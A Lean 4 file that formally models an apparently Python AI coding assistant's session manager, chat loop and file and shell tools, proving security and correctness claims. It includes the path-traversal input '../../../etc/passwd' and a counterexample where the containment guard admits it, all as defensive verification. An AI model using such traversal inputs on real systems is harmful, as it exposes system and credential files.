def dset {α β : Type} [DecidableEq α] (k : α) (v : β) (m : List (α × β)) :
    List (α × β) :=
  (k, v) :: ddel k m

/-- The two maps of `SessionManager`. -/
structure SMState where
  sessions : List (String × Session)
  projectSessions : List (Int × String)
deriving DecidableEq

/-- A fresh `SessionManager`. -/
def emptyState : SMState :=
  ⟨[], []⟩

/-- `SessionManager.cleanup_project_session`. -/
def cleanupProjectSession (pid : Int) (st : SMState) : SMState :=
  match dget pid st.projectSessions with
  | none => st
  | some oldSid =>
    ⟨(if (dget oldSid st.sessions).isSome then ddel oldSid st.sessions
      else st.sessions),
     ddel pid st.projectSessions⟩

/-- `SessionManager.create_session` (`newId` plays `uuid4`, `now` plays
`time.time()`). -/
def createSession (newId : String) (now : Nat) (pid : Int) (path : String)
    (st : SMState) : SMState :=
  ⟨dset newId ⟨newId, pid, path, now, now⟩ (cleanupProjectSession pid st).sessions,
   dset pid newId (cleanupProjectSession pid st).projectSessions⟩

/-- `SessionManager.get_session`: returns the stored session (if any) and
refreshes its `last_activity`; no expiry test is performed. -/
def getSession (now : Nat) (sid : String) (st : SMState) :
    Option Session × SMState :=
  match dget sid st.sessions with
  | none => (none, st)
  | some s =>
    (some { s with lastActivity := now },
     ⟨dset sid { s with lastActivity := now } st.sessions, st.projectSessions⟩)

/-- `SessionManager.get_project_session`. -/
def getProjectSession (now : Nat) (pid : Int) (st : SMState) :
    Option Session × SMState :=
  match dget pid st.projectSessions with
  | some sid => getSession now sid st
  | none => (none, st)

/-- `SessionManager.cleanup_session`. -/
def cleanupSession (sid : String) (st : SMState) : SMState :=
  match dget sid st.sessions with
  | none => st
  | some s =>
    ⟨ddel sid st.sessions,
     (if (dget s.projectId st.projectSessions).isSome then
        ddel s.projectId st.projectSessions
      else st.projectSessions)⟩

/-- `ConversationSession.is_expired` (default timeout 3600 s). -/
def sessionExpired (now timeout : Nat) (s : Session) : Bool :=
  timeout < now - s.lastActivity

/-- `SessionManager.cleanup_expired_sessions` — defined in the source but
invoked by no request path. -/
def cleanupExpiredSessions (now timeout : Nat) (st : SMState) : SMState :=
  (((st.sessions.filter (fun kv => sessionExpired now timeout kv.2)).map
      (fun kv => kv.1)).foldl (fun acc sid => cleanupSession sid acc) st)

/-- The operations the HTTP routes perform on the session manager, plus the
never-invoked expiry sweep. -/
inductive SMOp where
  | create (newId : String) (now : Nat) (pid : Int) (path : String)
  | get (now : Nat) (sid : String)
  | getProject (now : Nat) (pid : Int)
  | cleanupProject (pid : Int)
  | cleanup (sid : String)
  | cleanupExpired (now timeout : Nat)
deriving DecidableEq

def applySMOp : SMOp → SMState → SMState
  | .create newId now pid path, st => createSession newId now pid path st
  | .get now sid, st => (getSession now sid st).2
  | .getProject now pid, st => (getProjectSession now pid st).2
  | .cleanupProject pid, st => cleanupProjectSession pid st
  | .cleanup sid, st => cleanupSession sid st
  | .cleanupExpired now timeout, st => cleanupExpiredSessions now timeout st

def applySMOps (ops : List SMOp) (st : SMState) : SMState :=
  ops.foldl (fun acc op => applySMOp op acc) st

/-- `uuid4` freshness discipline: a created id is not a live session key. -/
def FreshOk : SMOp → SMState → Prop
  | .create newId _ _ _, st => dget newId st.sessions = none
  | _, _ => True

/-- Freshness along a whole operation sequence. -/
def FreshAlong : List SMOp → SMState → Prop
  | [], _ => True
  | op :: ops, st => FreshOk op st ∧ FreshAlong ops (applySMOp op st)

/-- Mutual consistency of the two maps: every project entry points at a live
session of that project, and every live session is pointed at by its
project's entry. -/
def Consistent (st : SMState) : Prop :=
  (∀ pid sid, dget pid st.projectSessions = some sid →
    ∃ s, dget sid st.sessions = some s ∧ s.projectId = pid) ∧
  (∀ sid s, dget sid st.sessions = some s →
    dget s.projectId st.projectSessions = some sid)

/-! ## ChatManager (core/chat_manager.py)

The provider is a pure oracle `gen : List Msg → ChatResponse` (exceptions
are out of scope: the source converts them into a COMPLETED step and
returns).  Tool execution is the injected `execT`.  Each embedding returns
`(steps, generate-call count, final transcript)`. -/

/-- `ChatManager.max_tool_iterations`. -/
def maxToolIterations : Nat := 10

/-- The states of `ConversationState`. -/
inductive StepState where
  | generating
  | toolApproval
  | toolExecuting
  | completed
deriving DecidableEq

/-- One tool-result record of `continue_conversation_after_tools`. -/
structure ToolResultEntry where
  toolCallId : String
  name : String
  content : String
  success : Bool
deriving DecidableEq

/-- `ConversationStep`. -/
structure Step where
  state : StepState
  content : Option String := none
  toolCalls : Option (List ToolCall) := none
  toolResults : Option (List ToolResultEntry) := none
  error : Option String := none
deriving DecidableEq

/-- `_build_provider_context` (cap 20, force-include a leading tool
command). -/
def buildProviderContext (messages : List Msg) : List Msg :=
  if messages.length ≤ 20 then messages
  else
    match messages with
    | [] => []
    | first :: _ =>
      if first.role = "user" && hasCmd first.content then
        first :: (messages.drop (messages.length - 20)).drop 1
      else messages.drop (messages.length - 20)

/-- Append the assistant message built from a provider response
(`tool_calls` stays `None` when the response carries none). -/
def appendAssistant (msgs : List Msg) (resp : ChatResponse) : List Msg :=
  msgs ++ [⟨"assistant", resp.content,
    (if resp.toolCalls = [] then none else some resp.toolCalls), none⟩]

/-- The body of `start_conversation`'s while loop: every control path
returns, so the loop body runs at most once whatever the provider answers. -/
def startConvGo (gen : List Msg → ChatResponse) :
    Nat → List Msg → List Step → Nat → List Step × Nat × List Msg
  | 0, msgs, steps, calls => (steps.reverse, calls, msgs)
  | _ + 1, msgs, steps, calls =>
    if (gen (buildProviderContext msgs)).toolCalls = [] then
      ((Step.mk .completed (some (gen (buildProviderContext msgs)).content)
          none none none :: Step.mk .generating none none none none ::
          steps).reverse,
       calls + 1,
       appendAssistant msgs (gen (buildProviderContext msgs)))
    else
      ((Step.mk .toolApproval (some (gen (buildProviderContext msgs)).content)
          (some (gen (buildProviderContext msgs)).toolCalls) none none ::
          Step.mk .generating none none none none :: steps).reverse,
       calls + 1,
       appendAssistant msgs (gen (buildProviderContext msgs)))

/-- `ChatManager.start_conversation` (lines 68-148). -/
def startConversation (gen : List Msg → ChatResponse) (history : List Msg)
    (userMessage : String) : List Step × Nat × List Msg :=
  startConvGo gen maxToolIterations
    (history ++ [⟨"user", userMessage, none, none⟩]) [] 0

/-- The per-call loop of tool execution: approved calls run through the
injected executor, denied calls record a denial, others are skipped. -/
def toolResultsFor (execT : ToolCall → String × Bool)
    (approved denied : List String) : List ToolCall → List ToolResultEntry
  | [] => []
  | tc :: rest =>
    if approved.contains tc.id then
      ⟨tc.id, tc.name, (execT tc).1, (execT tc).2⟩ ::
        toolResultsFor execT approved denied rest
    else if denied.contains tc.id then
      ⟨tc.id, tc.name, "User denied tool execution", false⟩ ::
        toolResultsFor execT approved denied rest
    else toolResultsFor execT approved denied rest

/-- Tool-role messages appended after execution (`tool_call_id` receives the
tool NAME, the system's convention for Gemini). -/
def toolMsgs (results : List ToolResultEntry) : List Msg :=
  results.map (fun r => ⟨"tool", r.content, none, some r.name⟩)

/-- The `echo_test` continuation inside the loop of
`continue_conversation_after_tools`: one extra generation (counted here as
`calls + 1`, the first generation having been counted by the caller), then
return. -/
def continueEchoTail (gen : List Msg → ChatResponse) (resp : ChatResponse)
    (msgs₁ : List Msg) (steps : List Step) (calls : Nat) :
    List Step × Nat × List Msg :=
  if (gen (buildProviderContext msgs₁)).toolCalls ≠ [] then
    (steps ++ [Step.mk .generating (some resp.content) none none none,
       Step.mk .toolApproval (some (gen (buildProviderContext msgs₁)).content)
         (some (gen (buildProviderContext msgs₁)).toolCalls) none none],
     calls + 1,
     appendAssistant msgs₁ (gen (buildProviderContext msgs₁)))
  else if (gen (buildProviderContext msgs₁)).content ≠ "" ∧
      (gen (buildProviderContext msgs₁)).content ≠ resp.content then
    (steps ++ [Step.mk .generating (some resp.content) none none none,
       Step.mk .completed (some (gen (buildProviderContext msgs₁)).content)
         none none none],
     calls + 1,
     msgs₁ ++ [⟨"assistant", (gen (buildProviderContext msgs₁)).content, none, none⟩])
  else
    (steps ++ [Step.mk .generating (some resp.content) none none none,
       Step.mk .completed (some resp.content) none none none],
     calls + 1, msgs₁)

/-- The while loop of `continue_conversation_after_tools` (lines 243-345):
again every control path returns inside the first iteration. -/
def continueLoop (gen : List Msg → ChatResponse) (providerName : String) :
    Nat → List Msg → List Step → Nat → List Step × Nat × List Msg
  | 0, msgs, steps, calls => (steps, calls, msgs)
  | _ + 1, msgs, steps, calls =>
    if (gen (buildProviderContext msgs)).toolCalls ≠ [] then
      (steps ++ [Step.mk .toolApproval
          (some (gen (buildProviderContext msgs)).content)
          (some (gen (buildProviderContext msgs)).toolCalls) none none],
       calls + 1,
       appendAssistant msgs (gen (buildProviderContext msgs)))
    else if providerName = "echo_test" then
      continueEchoTail gen (gen (buildProviderContext msgs))
        (appendAssistant msgs (gen (buildProviderContext msgs))) steps (calls + 1)
    else
      (steps ++ [Step.mk .completed
          (some (gen (buildProviderContext msgs)).content) none none none],
       calls + 1,
       appendAssistant msgs (gen (buildProviderContext msgs)))

/-- `ChatManager.continue_conversation_after_tools` (lines 150-345). -/
def continueConv (gen : List Msg → ChatResponse) (providerName : String)
    (execT : ToolCall → String × Bool) (approved denied : List String)
    (msgs : List Msg) : List Step × Nat × List Msg :=
  match msgs.getLast? with
  | none =>
    ([Step.mk .completed none none none
        (some "No messages in conversation history")], 0, msgs)
  | some last =>
    match last.toolCalls with
    | some (tc₀ :: tcRest) =>
      continueLoop gen providerName maxToolIterations
        (msgs ++ toolMsgs (toolResultsFor execT approved denied (tc₀ :: tcRest)))
        [Step.mk .toolExecuting none none none none,
         Step.mk .generating none none
           (some (toolResultsFor execT approved denied (tc₀ :: tcRest))) none]
        0
    | _ =>
      ([Step.mk .completed none none none
          (some "No tool calls found to process")], 0, msgs)

/-! ### Lemmas about the path model -/

lemma pyLStripChar_of_not_starts (c : Char) (s : String)
    (h : startsWithChar c s = false) : pyLStripChar c s = s := by
  unfold startsWithChar at h
  unfold pyLStripChar
  conv_rhs => rw [show s = (⟨s.toList⟩ : String) from rfl]
  cases hl : s.toList with
  | nil => simp
  | cons c₀ t =>
    rw [hl] at h
    simp only [decide_eq_false_iff_not] at h
    simp [List.dropWhile_cons, h]

lemma stripLeading_eq (fp : String) : stripLeading fp = pyLStripChar '/' fp := by
  unfold stripLeading
  by_cases h : startsWithChar '/' fp = true
  · simp [h]
  · simp only [Bool.not_eq_true] at h
    simp [h, pyLStripChar_of_not_starts '/' fp h]

lemma isPrefixOf_iff_append {α : Type} [BEq α] [LawfulBEq α] (l₁ l₂ : List α) :
    l₁.isPrefixOf l₂ = true ↔ ∃ t, l₂ = l₁ ++ t := by
  induction l₁ generalizing l₂ with
  | nil => simp [List.isPrefixOf]
  | cons a as ih =>
    cases l₂ with
    | nil => simp [List.isPrefixOf]
    | cons b bs =>
      simp only [List.isPrefixOf, Bool.and_eq_true, beq_iff_eq, ih, List.cons_append,
        List.cons.injEq]
      constructor
      · rintro ⟨rfl, t, rfl⟩
        exact ⟨t, rfl, rfl⟩
      · rintro ⟨t, rfl, rfl⟩
        exact ⟨rfl, t, rfl⟩

lemma resolveParts_append (a b : List String) :
    resolveParts (a ++ b) =
      b.foldl (fun acc c => if c = ".." then acc.dropLast else acc ++ [c])
        (resolveParts a) := by
  unfold resolveParts
  exact List.foldl_append ..

/-- Joining the traversal path `../../../etc/passwd` onto any project pops at
most three components and then descends into `etc/passwd`. -/
lemma joinedResolved_traversal (proj : String) :
    joinedResolved proj "../../../etc/passwd" =
      (resolveAbs proj).dropLast.dropLast.dropLast ++ ["etc", "passwd"] := by
  unfold joinedResolved
  have hparse : parseParts (stripLeading "../../../etc/passwd") =
      ["..", "..", "..", "etc", "passwd"] := by decide
  rw [hparse, resolveParts_append]
  simp only [List.foldl_cons, List.foldl_nil, if_pos rfl]
  rw [if_neg (by decide), if_neg (by decide)]
  simp [resolveAbs]

/-- The containment guard rejects the traversal target unless the canonical
project directory is itself a lexical ancestor of `/etc/passwd`. -/
lemma traversal_guard (p : List String)
    (h : p.isPrefixOf ["etc", "passwd"] = false) :
    p.isPrefixOf (p.dropLast.dropLast.dropLast ++ ["etc", "passwd"]) = false := by
  by_contra hx
  rw [Bool.not_eq_false, isPrefixOf_iff_append] at hx
  obtain ⟨t, ht⟩ := hx
  by_cases hn : p.length ≤ 2
  · have h3 : p.dropLast.dropLast.dropLast = [] := by
      have : p.dropLast.dropLast.dropLast.length = 0 := by
        simp only [List.length_dropLast]
        omega
      exact List.eq_nil_of_length_eq_zero this
    rw [h3, List.nil_append] at ht
    rw [Bool.eq_false_iff] at h
    exact h ((isPrefixOf_iff_append _ _).2 ⟨t, ht⟩)
  · have := congrArg List.length ht
    simp only [List.length_append, List.length_dropLast, List.length_cons,
      List.length_nil] at this
    omega

/-- C1 (amended): for the filesystem tools' shared path resolution, ALL
leading `/` characters are stripped from the caller-supplied `file_path`, the
joined path is canonically resolved, and the operation proceeds only if the
resolved path lies inside the canonical project directory, otherwise it fails
with a "Path outside project directory" error; for every project whose
canonical directory is not a lexical ancestor of `/etc/passwd` (i.e. other
than `/` and `/etc`), a `file_path` of `../../../etc/passwd` fails with that
error in all three tools, and no path outside the project root is ever
returned for reading or writing. -/
theorem C1_path_resolution :
    (∀ ok proj fp, resolveFilePathRead ok proj fp = specResolveAllStrip ok proj fp) ∧
    (∀ proj fp parts, resolveFilePathRead true proj fp = .ok parts →
        (resolveAbs proj).isPrefixOf parts = true) ∧
    (∀ proj fp parts, resolveFilePathWrite true proj fp = .ok parts →
        (resolveAbs proj).isPrefixOf parts = true) ∧
    (∀ proj fp parts, resolveFilePathEdit true proj fp = .ok parts →
        (resolveAbs proj).isPrefixOf parts = true) ∧
    (∀ proj, (resolveAbs proj).isPrefixOf ["etc", "passwd"] = false →
        resolveFilePathRead true proj "../../../etc/passwd" =
          .err ("Path outside project directory: ../../../etc/passwd") ∧
        resolveFilePathWrite true proj "../../../etc/passwd" =
          .err ("Path outside project directory: ../../../etc/passwd") ∧
        resolveFilePathEdit true proj "../../../etc/passwd" =
          .err ("Path outside project directory: ../../../etc/passwd")) := by
  refine ⟨?_, ?_, ?_, ?_, ?_⟩
  · intro ok proj fp
    unfold resolveFilePathRead specResolveAllStrip joinedResolved
    rw [stripLeading_eq]
  · intro proj fp parts h
    unfold resolveFilePathRead at h
    simp only [Bool.not_true, Bool.false_eq_true, if_false] at h
    split at h
    · cases h
      assumption
    · cases h
  · intro proj fp parts h
    unfold resolveFilePathWrite at h
    simp only [Bool.not_true, Bool.false_eq_true, if_false] at h
    split at h
    · split at h
      · cases h
      · cases h
        assumption
    · cases h
  · intro proj fp parts h
    unfold resolveFilePathEdit at h
    simp only [Bool.not_true, Bool.false_eq_true, if_false] at h
    split at h
    · split at h
      · cases h
      · cases h
        assumption
    · cases h
  · intro proj h
    have hguard := traversal_guard (resolveAbs proj) h
    rw [← joinedResolved_traversal proj] at hguard
    have hfp : stripLeading "../../../etc/passwd" = "../../../etc/passwd" := by decide
    refine ⟨?_, ?_, ?_⟩
    · unfold resolveFilePathRead
      simp [hguard, hfp]
    · unfold resolveFilePathWrite
      simp [hguard, hfp]
    · unfold resolveFilePathEdit
      simp [hguard, hfp]

/-- C1 witness: a concrete project for which the amended traversal law fires. -/
theorem C1_path_resolution_witness :
    resolveFilePathRead true "/home/user/project" "../../../etc/passwd" =
      .err ("Path outside project directory: ../../../etc/passwd") ∧
    (resolveAbs "/home/user/project").isPrefixOf ["etc", "passwd"] = false :=
  ⟨(C1_path_resolution.2.2.2.2 "/home/user/project" (by decide)).1, by decide⟩

/-- C1 counterexample: the claim fails as stated on two concrete inputs.
First, for the project `/` (which exists and is a directory) the `file_path`
`../../../etc/passwd` does NOT fail: it resolves to `/etc/passwd`, which is
lexically inside the project root `/`, so the guard admits it (the same
happens for project `/etc`).  Second, the code strips ALL leading slashes,
not a single one: on `//etc/passwd` the code resolves inside the project,
while the claimed single-strip semantics would leave the absolute path
`/etc/passwd` and reject it as outside the project. -/
theorem C1_counterexample :
    resolveFilePathRead true "/" "../../../etc/passwd" = .ok ["etc", "passwd"] ∧
    resolveFilePathRead true "/proj" "//etc/passwd" =
      .ok ["proj", "etc", "passwd"] ∧
    specResolveSingleStrip true "/proj" "//etc/passwd" =
      .err ("Path outside project directory: /etc/passwd") :=
  ⟨by decide, by decide, by decide⟩

/-! ### The blocked-pattern scan sees the whole resolved path (C10) -/

lemma containsSub_nil_needle (l : List Char) : containsSub [] l = true := by
  cases l <;> simp [containsSub, List.isPrefixOf]

lemma isPrefixOf_append_right {α : Type} [BEq α] [LawfulBEq α]
    (n h t : List α) (hp : n.isPrefixOf h = true) :
    n.isPrefixOf (h ++ t) = true := by
  rw [isPrefixOf_iff_append] at hp ⊢
  obtain ⟨r, rfl⟩ := hp
  exact ⟨r ++ t, by simp⟩

lemma containsSub_append_right (n h t : List Char)
    (hc : containsSub n h = true) : containsSub n (h ++ t) = true := by
  induction h with
  | nil =>
    simp only [containsSub] at hc
    rw [isPrefixOf_iff_append] at hc
    obtain ⟨r, hr⟩ := hc
    have : n = [] := by
      cases n with
      | nil => rfl
      | cons a as => simp at hr
    subst this
    exact containsSub_nil_needle _
  | cons c h' ih =>
    simp only [containsSub, Bool.or_eq_true] at hc
    rcases hc with hc | hc
    · simp only [List.cons_append, containsSub, Bool.or_eq_true]
      exact Or.inl (isPrefixOf_append_right n (c :: h') t hc)
    · simp only [List.cons_append, containsSub, Bool.or_eq_true]
      exact Or.inr (ih hc)

lemma joinWith_append (sep : Char) (p q : List String) :
    ∃ r, joinWith sep (p ++ q) = joinWith sep p ++ r := by
  induction p with
  | nil => exact ⟨joinWith sep q, by simp [joinWith]⟩
  | cons x p' ih =>
    cases p' with
    | nil =>
      cases q with
      | nil => exact ⟨[], by simp [joinWith]⟩
      | cons y q' => exact ⟨sep :: joinWith sep (y :: q'), by simp [joinWith]⟩
    | cons x' p'' =>
      obtain ⟨r, hr⟩ := ih
      refine ⟨r, ?_⟩
      simp only [List.cons_append, joinWith] at hr ⊢
      simp [hr]

/-- If one resolved path is a component-prefix of another, any blocked pattern
matching the lower-cased rendering of the first also matches the second. -/
lemma blockedHit_mono (p f : List String)
    (hpre : p.isPrefixOf f = true) (hb : blockedHit p = true) :
    blockedHit f = true := by
  rw [isPrefixOf_iff_append] at hpre
  obtain ⟨q, rfl⟩ := hpre
  unfold blockedHit at hb ⊢
  rw [List.any_eq_true] at hb ⊢
  obtain ⟨pat, hmem, hhit⟩ := hb
  refine ⟨pat, hmem, ?_⟩
  obtain ⟨r, hr⟩ := joinWith_append '/' p q
  unfold containsSubStr pyLower pathStr at hhit ⊢
  have hfull : ("/" ++ (⟨joinWith '/' (p ++ q)⟩ : String)).toList =
      ("/" ++ (⟨joinWith '/' p⟩ : String)).toList ++ r := by
    show '/' :: joinWith '/' (p ++ q) = ('/' :: joinWith '/' p) ++ r
    simp [hr]
  rw [hfull, List.map_append]
  exact containsSub_append_right _ _ _ hhit

/-- C10: the blocked-location check of `write_file` and `edit_file` is
evaluated against the entire lower-cased resolved absolute path, project
prefix included; so when the canonical project path itself matches a blocked
substring (e.g. a project under `/var/`), no `write_file` or `edit_file`
resolution ever succeeds, and every `file_path` whose resolved target stays
inside the project fails with the system-location (resp. system-file)
error. -/
theorem C10_blocked_project_location :
    ∀ proj fp, blockedHit (resolveAbs proj) = true →
      (∀ parts, resolveFilePathWrite true proj fp ≠ .ok parts) ∧
      (∀ parts, resolveFilePathEdit true proj fp ≠ .ok parts) ∧
      ((resolveAbs proj).isPrefixOf (joinedResolved proj fp) = true →
        resolveFilePathWrite true proj fp =
          .err ("Cannot write to system location: " ++ stripLeading fp) ∧
        resolveFilePathEdit true proj fp =
          .err ("Cannot edit system file: " ++ stripLeading fp)) := by
  intro proj fp hb
  refine ⟨?_, ?_, ?_⟩
  · intro parts h
    unfold resolveFilePathWrite at h
    simp only [Bool.not_true, Bool.false_eq_true, if_false] at h
    split at h
    · rw [blockedHit_mono _ _ (by assumption) hb] at h
      simp at h
    · cases h
  · intro parts h
    unfold resolveFilePathEdit at h
    simp only [Bool.not_true, Bool.false_eq_true, if_false] at h
    split at h
    · rw [blockedHit_mono _ _ (by assumption) hb] at h
      simp at h
    · cases h
  · intro hpre
    have hbfull := blockedHit_mono _ _ hpre hb
    constructor
    · unfold resolveFilePathWrite
      simp [hpre, hbfull]
    · unfold resolveFilePathEdit
      simp [hpre, hbfull]

/-- C10 witness: a project under `/var/` rejects an ordinary in-project
write and edit with the system-location errors. -/
theorem C10_blocked_project_location_witness :
    resolveFilePathWrite true "/var/www/project" "src/main.py" =
      .err ("Cannot write to system location: " ++ stripLeading "src/main.py") ∧
    resolveFilePathEdit true "/var/www/project" "src/main.py" =
      .err ("Cannot edit system file: " ++ stripLeading "src/main.py") :=
  (C10_blocked_project_location "/var/www/project" "src/main.py" (by decide)).2.2
    (by decide)

/-! ### Write line counting (C4) -/

lemma endsWithChar_iff (c : Char) (s : String) :
    endsWithChar c s = true ↔ s.toList.getLast? = some c := by
  unfold endsWithChar
  cases h : s.toList.getLast? <;> simp

lemma pyCountList_single (c : Char) (l : List Char) :
    pyCountList c [] l = l.count c := by
  induction l with
  | nil => simp [pyCountList_nil]
  | cons x t ih =>
    rw [pyCountList_cons]
    by_cases hx : c = x
    · subst hx
      simp [List.isPrefixOf, ih, List.count_cons]
    · simp [List.isPrefixOf, hx, ih, List.count_cons, Ne.symm hx]

lemma pyCount_newline (s : String) :
    pyCountStr "\n" s = s.toList.count '\n' := by
  show pyCountList '\n' [] s.toList = s.toList.count '\n'
  exact pyCountList_single '\n' s.toList

/-- C4: `write_file` computes `lines_written` by editor semantics for every
content string — empty content gives 0, content ending in a newline gives
`max 1 newline_count`, any other content gives `newline_count + 1`; in
particular `""` gives 0, `"a\nb"` gives 2, `"a\nb\n"` gives 2 and
`"\n\n\n"` gives 3. -/
theorem C4_lines_written :
    (∀ content : String,
      (content = "" → linesWritten content = 0) ∧
      (content ≠ "" → content.toList.getLast? = some '\n' →
          linesWritten content = max 1 (content.toList.count '\n')) ∧
      (content ≠ "" → content.toList.getLast? ≠ some '\n' →
          linesWritten content = content.toList.count '\n' + 1)) ∧
    linesWritten "" = 0 ∧ linesWritten "a\nb" = 2 ∧
    linesWritten "a\nb\n" = 2 ∧ linesWritten "\n\n\n" = 3 := by
  refine ⟨?_, by decide, by decide, by decide, by decide⟩
  intro content
  refine ⟨?_, ?_, ?_⟩
  · intro h
    simp [linesWritten, h]
  · intro h hl
    rw [← endsWithChar_iff] at hl
    simp [linesWritten, h, hl, pyCount_newline]
  · intro h hl
    have he : endsWithChar '\n' content = false := by
      rw [Bool.eq_false_iff]
      intro hx
      exact hl ((endsWithChar_iff _ _).1 hx)
    simp [linesWritten, h, he, pyCount_newline]

/-- C4 witness: the general clauses applied at `"a\nb\n"` and `"a\nb"`. -/
theorem C4_lines_written_witness :
    linesWritten "a\nb\n" = max 1 ("a\nb\n".toList.count '\n') ∧
    linesWritten "a\nb" = "a\nb".toList.count '\n' + 1 :=
  ⟨(C4_lines_written.1 "a\nb\n").2.1 (by decide) (by decide),
   (C4_lines_written.1 "a\nb").2.2 (by decide) (by decide)⟩

/-! ### Edit exactness (C3) -/

lemma pyCountList_eq_zero_iff (o : Char) (os l : List Char) :
    pyCountList o os l = 0 ↔ containsSub (o :: os) l = false := by
  induction l with
  | nil => simp [pyCountList_nil, containsSub, List.isPrefixOf]
  | cons c t ih =>
    rw [pyCountList_cons]
    simp only [containsSub]
    by_cases hp : (o :: os).isPrefixOf (c :: t) = true
    · simp [hp]
    · rw [Bool.not_eq_true] at hp
      simp [hp, ih]

lemma containsSub_of_pre (n t : List Char) : containsSub n (n ++ t) = true := by
  cases n with
  | nil => exact containsSub_nil_needle _
  | cons a as =>
    simp only [List.cons_append, containsSub, Bool.or_eq_true]
    exact Or.inl (isPrefixOf_append_right (a :: as) (a :: as) t
      (by rw [isPrefixOf_iff_append]; exact ⟨[], by simp⟩))

lemma containsSubStr_append_right (n a b : String)
    (h : containsSubStr n a = true) : containsSubStr n (a ++ b) = true := by
  unfold containsSubStr at h ⊢
  have he : (a ++ b).toList = a.toList ++ b.toList := rfl
  rw [he]
  exact containsSub_append_right _ _ _ h

lemma ctxRender_prefixed (contextLines : List String) (start : Nat) :
    containsSubStr "Text not found" (ctxRender contextLines start) = true := by
  unfold ctxRender
  split
  · decide
  · exact containsSubStr_append_right _ _ _ (by decide)

lemma contextBlock_prefixed (lines : List String) (i : Nat) :
    containsSubStr "Text not found" (contextBlock lines i) = true := by
  unfold contextBlock
  exact ctxRender_prefixed _ _

lemma notFoundMsg_prefixed (content oldText : String) :
    containsSubStr "Text not found" (editNotFoundMsg content oldText) = true := by
  unfold editNotFoundMsg
  split
  · decide
  · exact contextBlock_prefixed _ _

/-- C3: `edit_file` performs the replacement only when `old_text` occurs
exactly once: zero occurrences give a failure whose message starts with
"Text not found", and `k > 1` occurrences give the failure naming the exact
count `k` and asking to be more specific; in both failure cases the file
content is unchanged and no backup is created. -/
theorem C3_edit_exactness :
    ∀ content oldText newText, oldText ≠ "" →
      (pyCountStr oldText content = 0 →
        (editFileOp content oldText newText).success = false ∧
        (∃ msg, (editFileOp content oldText newText).error = some msg ∧
          containsSubStr "Text not found" msg = true) ∧
        (editFileOp content oldText newText).finalContent = content ∧
        (editFileOp content oldText newText).backupCreated = false) ∧
      (∀ k, pyCountStr oldText content = k → 1 < k →
        (editFileOp content oldText newText).success = false ∧
        (editFileOp content oldText newText).error =
          some ("Text appears " ++ toString k ++
            " times in file. Please be more specific to match exactly one occurrence.") ∧
        (editFileOp content oldText newText).finalContent = content ∧
        (editFileOp content oldText newText).backupCreated = false) := by
  intro content oldText newText hne
  have hcount : ∀ k, pyCountStr oldText content = k →
      (k = 0 → containsSubStr oldText content = false) ∧
      (0 < k → containsSubStr oldText content = true) := by
    intro k hk
    unfold pyCountStr at hk
    unfold containsSubStr
    cases hl : oldText.toList with
    | nil =>
      exfalso
      apply hne
      have : oldText = (⟨oldText.toList⟩ : String) := rfl
      rw [this, hl]
    | cons o os =>
      rw [hl] at hk
      constructor
      · intro h0
        subst h0
        exact (pyCountList_eq_zero_iff o os content.toList).1 hk
      · intro hpos
        by_contra hcs
        rw [Bool.not_eq_true] at hcs
        have h0' := (pyCountList_eq_zero_iff o os content.toList).2 hcs
        have hk' : pyCountList o os content.toList = k := hk
        omega

  constructor
  · intro h0
    have hcs := ((hcount 0 h0).1 rfl)
    unfold editFileOp
    rw [if_neg hne, if_pos (by rw [hcs])]
    exact ⟨rfl, ⟨editNotFoundMsg content oldText, rfl, notFoundMsg_prefixed _ _⟩,
      rfl, rfl⟩
  · intro k hk hk1
    have hcs := (hcount k hk).2 (by omega)
    unfold editFileOp
    rw [if_neg hne, if_neg (by rw [hcs]; simp), hk, if_pos hk1]
    exact ⟨rfl, rfl, rfl, rfl⟩

/-- C3 witness: the spec's concrete example — `old_text` occurring twice is
rejected with "appears 2 times" and the content is unchanged. -/
theorem C3_edit_exactness_witness :
    (editFileOp "print(\"test\")\nprint(\"test\")\nprint(\"different\")"
        "print(\"test\")" "x").error =
      some ("Text appears " ++ toString 2 ++
        " times in file. Please be more specific to match exactly one occurrence.") ∧
    (editFileOp "print(\"test\")\nprint(\"test\")\nprint(\"different\")"
        "print(\"test\")" "x").finalContent =
      "print(\"test\")\nprint(\"test\")\nprint(\"different\")" :=
  have h := (C3_edit_exactness
    "print(\"test\")\nprint(\"test\")\nprint(\"different\")"
    "print(\"test\")" "x" (by decide)).2 2 (by decide) (by decide)
  ⟨h.2.1, h.2.2.1⟩

/-! ### Shell security gate (C2) -/

lemma checkParts_safe_no_blocked :
    ∀ parts, (checkParts parts).safe = true →
      ∀ part ∈ parts, pyStrip part ≠ "" →
        ∀ tok rest, shlexSplit (pyStrip part) = .ok (tok :: rest) →
          BLOCKED_COMMANDS.contains (pyLower (lastSegment tok)) = false := by
  intro parts
  induction parts with
  | nil =>
    intro _ part hmem
    simp at hmem
  | cons q qs ih =>
    intro hsafe part hmem hne tok rest hsh
    unfold checkParts at hsafe
    rcases List.mem_cons.1 hmem with rfl | hmem₂
    · rw [if_neg hne, hsh] at hsafe
      simp only [] at hsafe
      by_cases hb : BLOCKED_COMMANDS.contains (pyLower (lastSegment tok)) = true
      · rw [if_pos hb] at hsafe
        simp at hsafe
      · rwa [Bool.not_eq_true] at hb
    · by_cases hq : pyStrip q = ""
      · rw [if_pos hq] at hsafe
        exact ih hsafe part hmem₂ hne tok rest hsh
      · rw [if_neg hq] at hsafe
        cases hsq : shlexSplit (pyStrip q) with
        | error m =>
          rw [hsq] at hsafe
          simp at hsafe
        | ok toks =>
          rw [hsq] at hsafe
          cases toks with
          | nil => exact ih hsafe part hmem₂ hne tok rest hsh
          | cons tk tks =>
            simp only [] at hsafe
            by_cases hb : BLOCKED_COMMANDS.contains (pyLower (lastSegment tk)) = true
            · rw [if_pos hb] at hsafe
              simp at hsafe
            · rw [if_neg hb] at hsafe
              exact ih hsafe part hmem₂ hne tok rest hsh

lemma validate_safe_no_blocked (cmd part tok : String) (rest : List String)
    (hsafe : (validateCommandSecurity cmd).safe = true)
    (hmem : part ∈ splitSeps cmd) (hne : pyStrip part ≠ "")
    (hsh : shlexSplit (pyStrip part) = .ok (tok :: rest)) :
    BLOCKED_COMMANDS.contains (pyLower (lastSegment tok)) = false := by
  unfold validateCommandSecurity at hsafe
  by_cases h0 : pyStrip cmd = ""
  · rw [if_pos h0] at hsafe
    simp at hsafe
  · rw [if_neg h0] at hsafe
    cases hf : dangerousPatterns.find? (fun p => containsSubStr p (pyLower cmd)) with
    | some p =>
      rw [hf] at hsafe
      simp at hsafe
    | none =>
      rw [hf] at hsafe
